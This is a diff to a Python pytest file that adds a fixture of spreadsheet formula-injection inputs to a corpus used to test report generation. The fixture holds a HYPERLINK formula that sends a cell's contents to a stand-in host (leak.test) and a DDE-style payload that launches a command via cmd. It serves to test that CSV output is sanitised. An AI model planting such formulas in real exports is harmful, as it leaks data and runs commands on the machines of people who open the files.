@@ -111,10 +111,22 @@ HOSTILE = dict(
 )
 
 
+FORMULAS = dict(  # cells a spreadsheet would run, in every column that reaches a CSV
+    file="formula.txt", outlet='=HYPERLINK("http://leak.test/?"&A1,"Daily Formula")', date="2024-05-05",
+    headline="@SUM(1+1)*cmd|' /C calc'!A0",
+    text=(
+        "-2+3 was the vote count on the budget, the mayor said on Friday.\n\n"
+        "=1+1 is what the council wrote in its budget, officials said.\n\n"
+        "\"+44 20 7946 0000 is the number to call,\" said @Ana Ruiz of the council.\n\n"
+        "The budget would pass next week, and residents agreed with the mayor.\n"
+    ),
+)
+
+
 @pytest.fixture(scope="session")
 def written_report(tmp_path_factory):
     base = tmp_path_factory.mktemp("written")
-    corpus = write_corpus(base / "corpus", [*SMALL_ARTICLES, HOSTILE])
+    corpus = write_corpus(base / "corpus", [*SMALL_ARTICLES, HOSTILE, FORMULAS])
     out = base / "reports"
     assert build_main(["--corpus", str(corpus), "--out", str(out), "--no-code", *NOTEBOOK_ARGS]) == 0
     return corpus, out
